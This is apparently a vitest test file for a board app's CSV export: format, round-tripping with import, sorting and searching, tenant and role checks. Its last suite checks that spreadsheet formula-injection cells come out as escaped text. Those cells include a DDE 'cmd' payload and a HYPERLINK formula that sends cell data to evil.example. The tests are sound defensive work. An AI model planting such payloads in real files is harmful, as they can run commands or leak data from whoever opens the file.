import { beforeAll, describe, expect, it } from 'vitest';
import { type ConsoleItem, consoleItemsResponseSchema, importCsvResponseSchema } from '@portico/contract';
import type { Tenant } from '../../domain/tenant';
import { makeTenant, makeUser, signIn, useTestApp } from '../../../test/support/app';
import {
  ALL_TYPE_COLUMNS,
  type TestBoard,
  addItems,
  columnForm,
  makeBoard,
  makePerson,
} from '../../../test/support/boards';
import { type Client, expectBody, expectError } from '../../../test/support/http';

/** The console's CSV export: the staff board as the file import reads back, searched and sorted as shown. */
const t = useTestApp();

let tenant: Tenant;
let admin: Client;
let client: Client;
beforeAll(async () => {
  tenant = await makeTenant(t.services, { grantAllBoards: true });
  admin = await signIn(t, tenant, await makeUser(t.services, tenant, { role: 'admin' }));
  client = await signIn(t, tenant, await makeUser(t.services, tenant));
  await makePerson(t.services, tenant, { name: 'Ann Lee', email: 'ann@example.com' });
  await makePerson(t.services, tenant, { name: 'Bo Chen', email: 'bo@example.com' });
});

const BOM = '\uFEFF';
const csv = (...lines: string[]) => `${lines.join('\r\n')}\r\n`;
const importInto = async (b: TestBoard, file: string) => {
  const form = new FormData();
  form.set('file', new Blob([file]), 'items.csv');
  const body = expectBody(
    await admin.multipart('POST', `/api/console/boards/${b.id}/import`, form),
    200,
    importCsvResponseSchema,
  );
  expect(body.data.problems).toEqual([]);
  expect(body.data.written).toBe(true);
};
const exportOf = async (b: { id: string }, query: Record<string, string> = {}, api = admin) =>
  api.get(`/api/console/boards/${b.id}/export?${new URLSearchParams(query)}`);
const exported = async (b: { id: string }, query: Record<string, string> = {}) => {
  const res = await exportOf(b, query);
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['content-disposition']).toMatch(/^attachment; filename=".+\.csv"/);
  return res.body;
};
/** Every item as the staff board shows it: name, group and every column's value (text, people, tags, links). */
const shown = async (b: TestBoard) =>
  expectBody(
    await admin.get(`/api/console/boards/${b.id}/items?limit=200`),
    200,
    consoleItemsResponseSchema,
  ).data.items.map((i: ConsoleItem) => ({
    name: i.name,
    group: i.group.title,
    // Every field of every value but its column's id (the boards' columns have ids of their own).
    values: i.column_values.map(({ id: _id, ...value }) => value),
  }));

const everyType = () =>
  makeBoard(t.services, tenant, { name: 'Every type', columns: Object.values(ALL_TYPE_COLUMNS) });

// Every column but Files, in board order after the name (ALL_TYPE_COLUMNS's order, Title last there).
const HEADER =
  'Title,Group,Status,Priority,Category,Tags,Owner,Brief,Timeline,Due date,Contact,Budget,Phone,Notes,Description,Approved';

describe('the export', () => {
  it('writes the header import reads and every value as import reads it back', async () => {
    const b = await everyType();
    await importInto(
      b,
      csv(
        HEADER,
        '"Launch, phase 1",Backlog,Done,High,"Copy, Design","urgent, client","Ann Lee, bo@example.com",' +
          '[Spec](https://example.com/spec),2026-03-01 - 2026-03-14,2026-03-01,x@example.com,12.50,' +
          '+1 555 010 9999,"He said ""hi""","line 1\nline 2",yes',
        'Second,In progress,,,,,,,,,,,,,,',
      ),
    );
    expect(await exported(b)).toBe(
      BOM +
        csv(
          HEADER,
          '"Launch, phase 1",Backlog,Done,High,"Copy, Design","urgent, client","ann@example.com, bo@example.com",' +
            '[Spec](https://example.com/spec),2026-03-01 - 2026-03-14,2026-03-01,x@example.com,12.50,' +
            '15550109999,"He said ""hi""","line 1\nline 2",true',
          // An empty checkbox cell stores an unticked box, which reads back as false.
          'Second,In progress,,,,,,,,,,,,,,false',
        ),
    );
  });

  it('round-trips: the exported file imported into a board like it gives the same values', async () => {
    const a = await everyType();
    await importInto(
      a,
      csv(
        HEADER,
        'One,In progress,Stuck,Low,"Design, Copy","client, urgent","Bo Chen, ann@example.com",https://example.com/a,' +
          '2026-01-01 to 2026-02-01,' +
          '2026-05-05,one@example.com,-3,(555) 010-1234,"a, b",,false',
        'Two,Backlog,,,,,,,,,,,,,"x\n\ny",true',
      ),
    );
    const file = await exported(a);
    const b = await everyType();
    await importInto(b, file);
    expect(await shown(b)).toEqual(await shown(a));
    expect(await exported(b)).toBe(file);
  });

  it('holds what a search, a group and a sort show, in that order', async () => {
    const b = await everyType();
    await importInto(
      b,
      csv('Title,Group,Budget', 'Alpha,Backlog,3', 'Beta,In progress,1', 'Gamma,Backlog,2', 'Delta,Backlog,'),
    );
    const firstCells = (text: string) =>
      text
        .replace(BOM, '')
        .trim()
        .split('\r\n')
        .slice(1)
        .map((l) => l.split(',')[0]);
    expect(firstCells(await exported(b))).toEqual(['Alpha', 'Gamma', 'Delta', 'Beta']);
    expect(firstCells(await exported(b, { sort: 'name', dir: 'desc' }))).toEqual([
      'Gamma',
      'Delta',
      'Beta',
      'Alpha',
    ]);
    const budget = b.col.numbers.id;
    expect(firstCells(await exported(b, { sort: budget }))).toEqual(['Beta', 'Gamma', 'Alpha', 'Delta']);
    expect(
      firstCells(await exported(b, { search: 'a', groupId: b.groups[0]!.id, sort: budget, dir: 'desc' })),
    ).toEqual(['Alpha', 'Gamma', 'Delta']);
    expect(firstCells(await exported(b, { search: 'nothing like it' }))).toEqual([]);
  });

  it('streams a board larger than one read (every row, once, in board order)', async () => {
    const b = await makeBoard(t.services, tenant, { columns: [{ type: 'name', title: 'Name' }] });
    const rows = Array.from({ length: 2500 }, (_, i) => `Item ${String(i).padStart(4, '0')}`);
    await importInto(b, csv('Name', ...rows));
    const lines = (await exported(b)).replace(BOM, '').trim().split('\r\n');
    expect(lines).toEqual(['Name,Group', ...rows.map((r) => `${r},Backlog`)]);
  });

  it('refuses an unknown sort, a missing board and another tenant’s board', async () => {
    const b = await everyType();
    expectError(await exportOf(b, { sort: 'colour' }), 400);
    expectError(await exportOf(b, { dir: 'up' }), 400);
    expectError(await exportOf({ id: 'missing' }), 404);
    const foreign = await makeBoard(t.services, await makeTenant(t.services));
    expectError(await exportOf(foreign), 404);
  });

  it('is for staff only', async () => {
    const b = await everyType();
    expectError(await exportOf(b, {}, client), 403);
    expectError(await exportOf(b, {}, admin.withToken(null)), 401);
  });
});

describe('cells a spreadsheet would run as formulas (issue 24)', () => {
  const CALC = "@cmd|' /C calc'!A0";
  const formulaBoard = () =>
    makeBoard(t.services, tenant, {
      name: 'Formulas',
      groups: ['+Ops', 'Backlog'],
      columns: [
        { type: 'name', title: 'Title' },
        { type: 'text', title: 'Notes' },
        { type: 'long_text', title: 'Internal', visible: false },
        { type: 'numbers', title: 'Budget' },
        { type: 'text', title: CALC },
      ],
    });
  const byTitle = (b: TestBoard, title: string) => b.columns.find((c) => c.title === title)!.id;

  it('are written as text, header, group and hidden columns included, and import gives them back exactly', async () => {
    const a = await formulaBoard();
    const [notes, internal, budget, calc] = ['Notes', 'Internal', 'Budget', CALC].map((c) => byTitle(a, c));
    const [planted] = await addItems(t.services, tenant, a, [
      {
        name: '=1+1',
        groupId: a.groups[0]!.id,
        values: {
          [internal!]: { text: '-2+3+cmd|x' },
          [budget!]: { number: '-5' },
          [calc!]: { text: '+SUM(1)' },
        },
      },
      {
        name: "'=1+1",
        groupId: a.groups[1]!.id,
        values: {
          [notes!]: { text: "''@x" },
          [internal!]: { text: "'plain" },
          [budget!]: { number: '-0.25' },
        },
      },
    ]);
    // A client who may edit Notes plants a formula for the staff member who exports the board.
    const res = await client.multipart(
      'POST',
      `/api/boards/updateItem/${planted}?boardId=${a.id}`,
      columnForm([
        { column: { id: notes!, type: 'text' }, text: '=HYPERLINK("https://evil.example/?"&A1,"Open")' },
      ]),
    );
    expect(res.statusCode, res.body).toBe(200);

    const file = await exported(a);
    expect(file).toBe(
      BOM +
        csv(
          `Title,Group,Notes,Internal,Budget,'${CALC}`,
          `'=1+1,'+Ops,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",'-2+3+cmd|x,-5,'+SUM(1)`,
          `''=1+1,Backlog,'''@x,'plain,-0.25,`,
        ),
    );
    const b = await formulaBoard();
    await importInto(b, file);
    expect(await shown(b)).toEqual(await shown(a));
    expect((await shown(b)).map((i) => i.name)).toEqual(['=1+1', "'=1+1"]);
    expect(await exported(b)).toBe(file);
  });
});
